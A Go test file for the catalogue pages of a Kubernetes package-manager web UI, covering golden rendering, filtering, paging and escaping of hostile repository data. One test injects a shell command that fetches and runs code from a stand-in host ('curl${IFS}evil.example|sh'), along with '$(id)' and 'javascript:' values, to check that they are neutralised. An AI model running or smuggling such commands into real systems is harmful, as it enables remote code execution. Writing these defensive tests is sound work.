package page_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	corev1alpha1 "lockstep.run/lockstep/apis/core/v1alpha1"
	"lockstep.run/lockstep/internal/ui/page"
)

// offered are packages by their objects.
func offered(specs ...*corev1alpha1.AvailablePackageSpec) page.Offers {
	found := map[[2]string]*page.Offer{}
	for _, spec := range specs {
		namespace, name, _ := strings.Cut(spec.PackageName, "/")
		spec.PackageName = name
		o := page.OfferOf(namespace, spec)
		if spec.Display != nil {
			o.Describe(spec.Display)
		}
		for _, v := range spec.Versions {
			o.Versions++
			o.Newest = v.Version
			o.From(v.Repository)
		}
		found[[2]string{namespace, name}] = o
	}
	return page.OffersFrom(found, "")
}

func available(name, title, short string, versions ...string) *corev1alpha1.AvailablePackageSpec {
	spec := &corev1alpha1.AvailablePackageSpec{PackageName: name, Display: &corev1alpha1.PackageDisplay{Name: title, ShortDescription: short, Keywords: []string{"platform"}}}
	for _, v := range versions {
		spec.Versions = append(spec.Versions, corev1alpha1.AvailableVersion{Version: v, Repository: "stable"})
	}
	return spec
}

func catalogue() page.Catalogue {
	return page.Catalogue{
		At: now, ByImage: 4, Offers: offered(
			available("/cert-operator.example.com", "Certificates", "Issues and renews certificates.", "1.14.0", "1.15.2", "1.15.3"),
			available("/postgres-operator.example.com", "PostgreSQL", "Databases with backups and failover.", "1.4.0"),
			available("shop/orders-db.example.com", "Orders", "The database of orders.", "5.1.0", "6.0.1"),
			available("/unused.example.com", "", ""),
		),
		Newer: []page.Newer{
			{Namespace: "shop", Name: "orders-db", Package: "orders-db.example.com", Installed: "5.1.0", Wanted: "5.1.0", Newest: "6.0.1",
				Reason: "6.0.1: is not allowed by the constraint", Path: "packages/shop/orders-db", Flags: "package/orders-db -n shop"},
			{Name: "cert-operator", Package: "cert-operator.example.com", Installed: "1.15.2", Wanted: "1.15.3", Newest: "1.15.3",
				Reason: "it has not moved yet", Path: "clusterpackages/cert-operator", Flags: "clusterpackage/cert-operator"},
		},
		Repositories: []page.Repository{
			{Name: "stable", Source: "image", Address: "registry.example.com/repositories/stable:latest", State: "ready", Works: "True", Packages: 112, Versions: 1840,
				Flags: "clusterpackagerepository/stable", Created: metav1.NewTime(now.Add(-90 * 24 * time.Hour))},
			{Namespace: "shop", Name: "nightly", Source: "git", Address: "https://git.example.com/shop/packages main", State: "FetchFailed", Works: "False",
				Problems: []string{"git.example.com: authentication failed. Check the Secret shop/git-token"}, Flags: "packagerepository/nightly -n shop", Created: metav1.NewTime(now.Add(-4 * time.Hour))},
		},
	}
}

// certificates is a package that is offered with two versions.
func certificates() page.Offered {
	o := page.Offered{Name: "cert-operator.example.com", Total: 3, Fitting: 3}
	o.Describe(&corev1alpha1.PackageDisplay{
		Name: "Certificates", ShortDescription: "Issues and renews certificates.", LongDescription: "# Certificates\n\nBy ACME, or by an authority of one's own.", Provider: "Example",
		Links: []corev1alpha1.PackageLink{{Name: "Source", URL: "https://git.example.com/certificates"}},
	})
	for _, v := range []corev1alpha1.AvailableVersion{
		{Version: "1.15.3", Repository: "stable", Release: &corev1alpha1.PackageRelease{Date: "2026-10-31T12:00:00Z", Licenses: []string{"Apache-2.0"}},
			Provides:     []corev1alpha1.ProvidedAPI{{APIVersion: "certificates.example.com/v1", Kind: "Certificate"}, {APIVersion: "certificates.example.com/v1", Kind: "Issuer"}},
			Dependencies: []corev1alpha1.Dependency{{Name: "dns", Optional: true, Package: &corev1alpha1.DependencyPackage{Name: "dns.example.com", VersionSelection: corev1alpha1.VersionSelection{Version: ">=2"}}}},
			Constraints:  []corev1alpha1.AvailableConstraint{{Platform: "Kubernetes", Range: ">=1.29"}}},
		{Version: "1.15.2", Repository: "stable", Scopes: []corev1alpha1.Scope{corev1alpha1.ScopeNamespaced}},
		{Version: "1.14.0", Repository: "stable", Retracted: "loses keys"},
	} {
		one := page.VersionOf(&v)
		one.Version, one.Source = v.Version, v.Repository
		if v.Retracted != "" {
			one.NotHere = "is retracted: loses keys"
		}
		o.Versions = append(o.Versions, one)
	}
	return o
}

func TestCatalogueGolden(t *testing.T) {
	t.Parallel()
	c := catalogue()
	golden(t, "catalogue", page.CatalogueOf(frame(), c, rows(shop()), page.CatalogueQuery{}))
	golden(t, "catalogue-installed", page.CatalogueOf(frame(), c, rows(shop()), page.CatalogueQuery{View: page.ViewInstalled, Text: "DATA"}))
	golden(t, "catalogue-reading", page.CatalogueOf(frame(), page.Catalogue{}, nil, page.CatalogueQuery{}))
	golden(t, "offer", page.OfferedOf(frame(), certificates(), rows(shop()), c.Newer, page.OfferQuery{Name: "cert-operator.example.com", Text: "1."}))
}

// The filter of the address selects offers, outdated packages, and repositories; each part has an address of its own.
func TestCatalogueFilter(t *testing.T) {
	t.Parallel()
	keys := func(q page.CatalogueQuery) (found []string) {
		for _, part := range strings.Split(text(t, page.CatalogueOf(frame(), catalogue(), rows(shop()), q)), `data-key="`)[1:] {
			key, _, _ := strings.Cut(part, `"`)
			found = append(found, key)
		}
		return found
	}
	for name, test := range map[string]struct {
		query page.CatalogueQuery
		want  []string
	}{
		"description": {page.CatalogueQuery{Text: "failover"}, []string{"offer /postgres-operator.example.com"}},
		"keyword":     {page.CatalogueQuery{Text: "PLATFORM", Namespace: "shop"}, []string{"offer shop/orders-db.example.com"}},
		"name": {page.CatalogueQuery{Text: "cert"}, []string{
			"clusterpackage/cert-operator", "offer /cert-operator.example.com",
		}},
		"namespace":    {page.CatalogueQuery{Namespace: "shop"}, []string{"package/orders-db -n shop", "offer shop/orders-db.example.com", "repository shop/nightly"}},
		"outdated":     {page.CatalogueQuery{View: page.ViewOutdated, Namespace: "(cluster)"}, []string{"clusterpackage/cert-operator"}},
		"installed":    {page.CatalogueQuery{View: page.ViewInstalled, Namespace: "shop"}, []string{"offer shop/orders-db.example.com"}},
		"repositories": {page.CatalogueQuery{View: page.ViewRepositories, Text: "git"}, []string{"repository shop/nightly"}},
		"nothing":      {page.CatalogueQuery{Text: "<script>"}, nil},
	} {
		if got := keys(test.query); !slices.Equal(got, test.want) {
			t.Errorf("%s: got %q", name, got)
		}
	}
}

// Rows of the cluster and of a namespace that is called cluster are told apart.
func TestNamespaceCluster(t *testing.T) {
	t.Parallel()
	c := page.Catalogue{At: now, Offers: offered(available("/shop.example.com", "", "", "1.0.0"), available("cluster/shop.example.com", "", "", "1.0.0"))}
	drawn := text(t, page.CatalogueOf(frame(), c, nil, page.CatalogueQuery{}))
	for _, key := range []string{`data-key="offer /shop.example.com"`, `data-key="offer cluster/shop.example.com"`} {
		if strings.Count(drawn, key) != 1 {
			t.Errorf("%s: %s", key, drawn)
		}
	}
}

// However much is offered, a page of the catalogue has so many rows and bytes, and leads to the others.
func TestCatalogueIsPaged(t *testing.T) {
	t.Parallel()
	specs := make([]*corev1alpha1.AvailablePackageSpec, 20_000)
	for i := range specs {
		specs[i] = available(fmt.Sprintf("/package-%05d.example.com", i), "Package", "One of many.", "1.0.0")
	}
	c := page.Catalogue{At: now, Offers: offered(specs...)}
	for i := range 5000 {
		c.Newer = append(c.Newer, page.Newer{Name: fmt.Sprintf("service-%05d", i), Installed: "1.0.0", Newest: "2.0.0", Flags: fmt.Sprintf("clusterpackage/service-%05d", i)})
	}
	installed := rows(many(5000))
	begin := time.Now()
	first := text(t, page.CatalogueOf(frame(), c, installed, page.CatalogueQuery{}))
	t.Logf("%d offers: %d bytes in %s", len(specs), len(first), time.Since(begin))
	if n := strings.Count(first, "data-key="); n != page.ListRows+page.OverviewRows || len(first) > 256<<10 {
		t.Errorf("%d rows, %d bytes", n, len(first))
	}
	for _, want := range []string{"1–100 of 20000", `href="/base/catalogue?page=2"`, `<a href="/base/catalogue?view=outdated">All 5000</a>`} {
		if !strings.Contains(first, want) {
			t.Errorf("it has no %q", want)
		}
	}
	behind := text(t, page.CatalogueOf(frame(), c, nil, page.CatalogueQuery{View: page.ViewOutdated, Page: 1000, Text: "service"}))
	if !strings.Contains(behind, "4901–5000 of 5000") || !strings.Contains(behind, `href="/base/catalogue?page=49&amp;q=service&amp;view=outdated"`) || strings.Contains(behind, "Further") {
		t.Error("the last page of what is behind is another one")
	}
}

// A name or version that a shell would read as something else is in no command.
func TestCommandsOfHostileNames(t *testing.T) {
	t.Parallel()
	const attack = "1.0.0;curl${IFS}evil.example|sh"
	o := page.Offered{Name: "x$(id)", Namespace: "shop", Total: 1, Fitting: 1, Versions: []page.Version{{Version: "1.0.0"}}}
	c := page.Catalogue{At: now, Newer: []page.Newer{{Name: "web", Installed: "1.0.0", Newest: attack, Flags: "package/web -n shop"}}}
	one := certificates()
	one.Versions[0].Version = attack
	for name, drawn := range map[string]*page.Page{
		"package": page.OfferedOf(frame(), o, nil, nil, page.OfferQuery{Name: o.Name}), "behind": page.CatalogueOf(frame(), c, nil, page.CatalogueQuery{}),
		"version": page.OfferedOf(frame(), one, nil, nil, page.OfferQuery{Name: one.Name}),
	} {
		for _, part := range strings.Split(text(t, drawn), "data-copy=")[1:] {
			if command, _, _ := strings.Cut(part[1:], `"`); strings.ContainsAny(command, "$;|(") {
				t.Errorf("%s: %s", name, command)
			}
		}
	}
}

// hostileCatalogue has a text in all that a repository brings, as often as there may be.
func hostileCatalogue(bad string) page.Catalogue {
	c, found := page.Catalogue{Note: bad}, map[[2]string]*page.Offer{}
	for i := range 2 * page.ListRows {
		spec := &corev1alpha1.AvailablePackageSpec{PackageName: fmt.Sprint(i, bad), Display: &corev1alpha1.PackageDisplay{Name: bad, ShortDescription: bad, Keywords: []string{bad}}}
		o := page.OfferOf("shop", spec)
		o.Describe(spec.Display)
		for range 5 {
			o.From(bad)
		}
		o.Newest = bad
		found[[2]string{"shop", spec.PackageName}] = o
		if i < 3 { // of these an API server bounds names, and the controller the rest
			c.Newer = append(c.Newer, page.Newer{Namespace: bad, Name: bad, Package: bad, Installed: bad, Wanted: bad, Newest: bad, Reason: bad, Path: bad, Flags: bad})
			c.Repositories = append(c.Repositories, page.Repository{Namespace: bad, Name: bad, Source: bad, Address: bad, State: bad, Problems: []string{bad}, Flags: bad})
		}
	}
	c.Offers = page.OffersFrom(found, bad)
	return c
}

// hostileOffer has a text in all but the name, which is that of its object.
func hostileOffer(f page.Frame, p corev1alpha1.GenericPackage, bad string) *page.Page {
	o := page.Offered{Namespace: "shop", Name: "evil.example.com", Total: 1000, Fitting: 1000}
	o.Describe(&corev1alpha1.PackageDisplay{
		Name: bad, ShortDescription: bad, LongDescription: bad, Provider: bad, Maintainers: []string{bad, bad}, Support: bad, Links: []corev1alpha1.PackageLink{{Name: bad, URL: "javascript:" + bad}},
	})
	for range page.VersionRows {
		v := corev1alpha1.AvailableVersion{Version: bad, Retracted: bad, Release: &corev1alpha1.PackageRelease{Date: bad, Notes: bad, Licenses: []string{bad}}}
		for range 1000 {
			v.Provides = append(v.Provides, corev1alpha1.ProvidedAPI{APIVersion: bad, Kind: bad})
			v.Dependencies = append(v.Dependencies, corev1alpha1.Dependency{Name: bad, Package: &corev1alpha1.DependencyPackage{Name: bad}})
			v.Constraints = append(v.Constraints, corev1alpha1.AvailableConstraint{Platforms: []string{bad}, Platform: bad, Range: bad})
		}
		one := page.VersionOf(&v)
		one.Version, one.Source, one.NotHere = bad, bad, bad
		o.Versions = append(o.Versions, one)
	}
	return page.OfferedOf(f, o, []page.Row{page.RowOf(p)}, []page.Newer{{Path: bad, Wanted: bad}}, page.OfferQuery{Name: o.Name, Namespace: "shop", Text: markup})
}
